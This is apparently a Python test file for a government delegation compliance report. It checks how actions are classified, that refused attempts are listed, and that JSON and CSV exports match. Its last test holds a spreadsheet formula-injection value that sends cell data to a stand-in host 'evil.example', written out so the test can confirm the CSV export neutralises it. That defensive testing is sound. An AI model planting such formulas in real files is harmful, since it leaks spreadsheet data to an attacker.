"""The delegation compliance report without a database: each kind of action a bypassed
writer could have recorded is classified, the period and the station are respected, the
refused attempts are listed, and the report reads the same as a table, CSV and JSON."""

from __future__ import annotations

import csv
import io
import json
import uuid
from datetime import date

import pytest

from shared.domain.audit.compliance import (
    ComplianceError,
    ComplianceReport,
    RefusedAttempt,
    compliance_report,
)
from shared.domain.audit.judge import Use, register_from
from shared.domain.delegation import Power, decide_publish, decide_revoke, decide_suspend
from shared.domain.events import Actor, NewEvent, StoredEvent
from shared.domain.workflow.reference import Reference, load_reference
from tests.audit_helpers import (
    CLERK,
    HEAD,
    ID_NUMBER,
    OFFICER,
    REVIEWER,
    CaseScript,
    Stream,
    china,
    instrument,
    received_and_accepted,
    stored,
)

FULL = "hrss-full-2026"
NARROW = "hrss-narrow-2026"  # no power to decide
REVOKED = "medsec-revoked-2026"
SUSPENDED = "health-suspended-2026"
EXPIRED = "civil-expired-2026"
START, END = date(2026, 11, 1), date(2026, 11, 30)


@pytest.fixture(scope="module")
def reference() -> Reference:
    return load_reference()


def register() -> list[Stream]:
    full = Stream(FULL)
    full.do(lambda s: decide_publish(s, instrument(FULL), actor=OFFICER, at=china(1, 6)))
    narrow = Stream(NARROW)
    narrow.do(
        lambda s: decide_publish(
            s,
            instrument(
                NARROW,
                items=["pension_benefit_claim"],
                powers=[Power.RECEIVE, Power.ACCEPT, Power.REVIEW, Power.DELIVER],
            ),
            actor=OFFICER,
            at=china(1, 6),
        )
    )
    medsec = Actor(user="sun.officer", role="department_officer", station="hc_medical_security")
    revoked = Stream(REVOKED)
    revoked.do(
        lambda s: decide_publish(
            s,
            instrument(
                REVOKED,
                delegator="hc_medical_security",
                items=["medical_insurance_enrolment"],
                document_number="韩医保发〔2026〕3号",
            ),
            actor=medsec,
            at=china(1, 6),
        )
    )
    revoked.do(
        lambda s: decide_revoke(s, REVOKED, reason="职能调整", actor=medsec, at=china(11, 10))
    )
    health = Actor(user="he.officer", role="department_officer", station="hc_health")
    suspended = Stream(SUSPENDED)
    suspended.do(
        lambda s: decide_publish(
            s,
            instrument(
                SUSPENDED,
                delegator="hc_health",
                items=["maternal_health_handbook"],
                document_number="韩卫发〔2026〕8号",
            ),
            actor=health,
            at=china(1, 6),
        )
    )
    suspended.do(
        lambda s: decide_suspend(s, SUSPENDED, reason="整改期间", actor=health, at=china(11, 10))
    )
    expired = Stream(EXPIRED)
    expired.do(
        lambda s: decide_publish(
            s,
            instrument(
                EXPIRED,
                items=["unemployment_registration"],
                valid_until=date(2026, 10, 31),
                document_number="韩人社发〔2026〕9号",
            ),
            actor=OFFICER,
            at=china(1, 6),
        )
    )
    return [full, narrow, revoked, suspended, expired]


def histories() -> list[list[StoredEvent]]:
    day = china(11, 16)
    within = received_and_accepted(CaseScript("XF-2026-000601"), day, (FULL, 1))
    within.add(
        "ReviewStarted", china(11, 17), REVIEWER, action="start_review", delegation=(FULL, 1)
    )
    within.add(
        "ReviewCompleted", china(11, 17, 10), REVIEWER, action="complete_review",
        delegation=(FULL, 1), recommendation="approve",
    )  # fmt: skip
    # A reviewer decided: the workflow lets only the head approve.
    within.add("CaseApproved", china(11, 17, 11), REVIEWER, action="approve", delegation=(FULL, 1))
    # Outside: the narrow instrument grants no power to decide.
    outside = received_and_accepted(
        CaseScript("XF-2026-000602", item_code="pension_benefit_claim"), day, (NARROW, 1)
    )
    outside.add("ReviewStarted", day, REVIEWER, action="start_review", delegation=(NARROW, 1))
    outside.add(
        "ReviewCompleted", day, REVIEWER, action="complete_review", delegation=(NARROW, 1),
        recommendation="approve",
    )  # fmt: skip
    outside.add("CaseApproved", china(11, 18), HEAD, action="approve", delegation=(NARROW, 1))
    # After revocation (on 10 Nov) and while suspended (since 10 Nov); expired (31 Oct).
    revoked = received_and_accepted(
        CaseScript("XF-2026-000603", item_code="medical_insurance_enrolment"), day, (REVOKED, 1)
    )
    suspended = received_and_accepted(
        CaseScript("XF-2026-000604", item_code="maternal_health_handbook"), day, (SUSPENDED, 1)
    )
    expired = received_and_accepted(
        CaseScript("XF-2026-000605", item_code="unemployment_registration"), day, (EXPIRED, 1)
    )
    # Before the period (October), and a refused attempt in it.
    october = received_and_accepted(CaseScript("XF-2026-000606"), china(10, 20), (FULL, 1))
    october.add(
        "ActionRefused", china(11, 2), REVIEWER, authority=None, action="approve",
        reason="wrong_role", message="approve must be done by: station_head (not reviewer)",
        status="accepted",
    )  # fmt: skip
    # Another station's case: not in this report.
    longmen = Actor(user="chen.clerk", role="window_clerk", station="longmen_station")
    other = CaseScript("LM-2026-000001", station="longmen_station")
    other.add("CaseReceived", day, longmen, action="receive", delegation=(FULL, 1))
    # A refused opening, kept in a stream of its own.
    attempt_id = uuid.uuid4()
    refused_opening = NewEvent(
        event_type="ActionRefused",
        occurred_at=china(11, 20),
        actor=REVIEWER,
        payload={
            "action": "receive",
            "reason": "wrong_role",
            "message": "receive must be done by: window_clerk (not reviewer)",
            "status": "",
        },
    )
    attempt = [
        stored(refused_opening, case_id=attempt_id, case_kind="attempt", version=1, position=900)
    ]
    scripts = [within, outside, revoked, suspended, expired, october, other]
    return [s.stored(first_position=100 * i) for i, s in enumerate(scripts, 1)] + [attempt]


def test_every_kind_of_use_is_classified_and_the_refusals_listed(reference: Reference) -> None:
    streams = register()
    report = compliance_report(
        histories(),
        reference,
        register_from(e for s in streams for e in s.events),
        station="xuefeng_station",
        start=START,
        end=END,
    )
    found = {(a.case_number, a.judgement.action): a.judgement.use for a in report.actions}
    assert found == {
        ("XF-2026-000601", "receive"): Use.WITHIN,
        ("XF-2026-000601", "accept"): Use.WITHIN,
        ("XF-2026-000601", "start_review"): Use.WITHIN,
        ("XF-2026-000601", "complete_review"): Use.WITHIN,
        ("XF-2026-000601", "approve"): Use.WRONG_ROLE,
        ("XF-2026-000602", "receive"): Use.WITHIN,
        ("XF-2026-000602", "accept"): Use.WITHIN,
        ("XF-2026-000602", "start_review"): Use.WITHIN,
        ("XF-2026-000602", "complete_review"): Use.WITHIN,
        ("XF-2026-000602", "approve"): Use.OUTSIDE,
        ("XF-2026-000603", "receive"): Use.AFTER_REVOCATION,
        ("XF-2026-000603", "accept"): Use.AFTER_REVOCATION,
        ("XF-2026-000604", "receive"): Use.WHILE_SUSPENDED,
        ("XF-2026-000604", "accept"): Use.WHILE_SUSPENDED,
        ("XF-2026-000605", "receive"): Use.EXPIRED,
        ("XF-2026-000605", "accept"): Use.EXPIRED,
    }
    assert not report.compliant
    counts = report.counts()
    assert counts == {
        "within": 8,
        "own_competence": 0,
        "outside": 1,
        "after_revocation": 2,
        "while_suspended": 2,
        "expired": 2,
        "wrong_role": 1,
        "wrong_instrument": 0,
        "unknown_item": 0,
        "not_allowed": 0,
    }
    approve = next(
        a for a in report.actions if a.case_number == "XF-2026-000602" and a.version == 5
    )
    assert "only receive, accept, review, deliver, not decide" in approve.judgement.message
    revoked = next(a for a in report.actions if a.case_number == "XF-2026-000603")
    assert revoked.judgement.in_force_id == REVOKED and "revoked" in revoked.judgement.message
    # Sorted by when things happened, whatever order the histories came in.
    assert [a.occurred_at for a in report.actions] == sorted(a.occurred_at for a in report.actions)

    refused = [(r.case_number, r.action, r.reason, r.actor_user) for r in report.refused]
    assert refused == [
        ("XF-2026-000606", "approve", "wrong_role", "wang.reviewer"),
        (None, "receive", "wrong_role", "wang.reviewer"),
    ]

    data = report.as_json()
    assert data["counts"] == counts and data["refused_count"] == 2
    assert json.loads(json.dumps(data)) == data
    assert ID_NUMBER not in json.dumps(data)
    rows = list(csv.DictReader(io.StringIO(report.csv())))
    assert [r["record"] for r in rows] == ["action"] * 16 + ["refused"] * 2
    assert [r["use"] for r in rows[:16]] == [a.judgement.use.value for a in report.actions]
    assert rows[-1]["reason"] == "wrong_role"


def test_a_clean_station_is_compliant_and_the_period_is_respected(reference: Reference) -> None:
    streams = register()
    full = register_from(streams[0].events)
    cases = [received_and_accepted(CaseScript("XF-2026-000701"), china(11, 30, 23, 59), (FULL, 1))]
    cases.append(received_and_accepted(CaseScript("XF-2026-000702"), china(12, 1, 0, 1), (FULL, 1)))
    report = compliance_report(
        [c.stored() for c in cases],
        reference,
        full,
        station="xuefeng_station",
        start=START,
        end=END,
    )
    assert report.compliant
    assert [a.case_number for a in report.actions] == ["XF-2026-000701"] * 2
    assert report.counts()["within"] == 2 and report.refused == ()
    with pytest.raises(ComplianceError, match="ends"):
        compliance_report([], reference, full, station="x", start=END, end=START)


def test_matters_and_the_system_s_own_steps_are_not_delegated_actions(
    reference: Reference,
) -> None:
    streams = register()
    script = received_and_accepted(CaseScript("XF-2026-000801"), china(11, 16), (FULL, 1))
    system = Actor(user="system", role="system")
    script.add("ClockWarningRaised", china(11, 20), system, level="red", epoch=2)
    script.add("NotificationSent", china(11, 20), system, channel="sms", recipient="138****5678")
    report = compliance_report(
        [script.stored()],
        reference,
        register_from(streams[0].events),
        station="xuefeng_station",
        start=START,
        end=END,
    )
    assert [a.event_type for a in report.actions] == ["CaseReceived", "CaseAccepted"]
    assert CLERK.user == report.actions[0].actor_user


def test_the_competent_authority_acts_in_its_own_right_and_another_does_not(
    reference: Reference,
) -> None:
    medsec = Actor(user="sun.officer", role="department_officer", station="hc_medical_security")
    station_power = Stream("medsec-forwarded-2026")
    station_power.do(
        lambda s: decide_publish(
            s,
            instrument(
                "medsec-forwarded-2026",
                delegator="hc_medical_security",
                items=["medical_reimbursement"],
                powers=[Power.RECEIVE, Power.ACCEPT, Power.REVIEW, Power.DELIVER],
                document_number="韩医保发〔2026〕5号",
            ),
            actor=medsec,
            at=china(1, 6),
        )
    )
    code = ("medsec-forwarded-2026", 1)
    health = Actor(user="he.officer", role="department_officer", station="hc_health")
    decided: dict[str, Actor] = {"XF-2026-000901": medsec, "XF-2026-000902": health}
    scripts = []
    for number, officer in decided.items():
        script = received_and_accepted(
            CaseScript(number, item_code="medical_reimbursement", workflow="forwarded_item"),
            china(11, 16),
            code,
        )
        script.add("ReviewStarted", china(11, 17), REVIEWER, action="start_review", delegation=code)
        script.add(
            "ReviewCompleted", china(11, 17, 10), REVIEWER, action="complete_review",
            delegation=code, recommendation="approve",
        )  # fmt: skip
        script.add("CaseForwarded", china(11, 17, 11), REVIEWER, action="forward", delegation=code)
        script.add(
            "CaseApproved", china(11, 20), officer, action="approve",
            authority=officer.station,
        )  # fmt: skip
        scripts.append(script)
    report = compliance_report(
        [s.stored() for s in scripts],
        reference,
        register_from(station_power.events),
        station="xuefeng_station",
        start=START,
        end=END,
    )
    approvals = [(a.case_number, a.judgement.use) for a in report.actions if a.version == 6]
    assert approvals == [
        ("XF-2026-000901", Use.OWN_COMPETENCE),
        ("XF-2026-000902", Use.OUTSIDE),
    ]
    assert report.counts()["within"] == 10  # receive to forward, both cases
    own = next(a for a in report.actions if a.judgement.use is Use.OWN_COMPETENCE)
    assert own.judgement.valid_for(None, None) and not own.judgement.valid_for(*code)
    assert not report.compliant


def test_text_a_spreadsheet_would_run_is_kept_as_text_in_the_csv() -> None:
    """A user id or message written to look like a formula (an officer named in a
    department's answer is whatever the department wrote) opens as text in Excel/WPS."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    refused = RefusedAttempt(
        case_id=uuid.uuid4(),
        case_number="XF-2026-000143",
        version=9,
        position=1,
        occurred_at=china(11, 30, 9, 0),
        recorded_at=china(11, 30, 9, 0),
        actor_user=formula,
        actor_role="department_officer",
        actor_station="hc_forestry",
        action="approve",
        reason="not_awaiting_answer",
        message="@SUM(1+1)",
    )
    report = ComplianceReport(
        station="xuefeng_station", start=START, end=END, actions=(), refused=(refused,)
    )
    [row] = list(csv.DictReader(io.StringIO(report.csv())))
    assert row["actor_user"] == "'" + formula
    assert row["message"] == "'@SUM(1+1)"
    assert row["reason"] == "not_awaiting_answer"
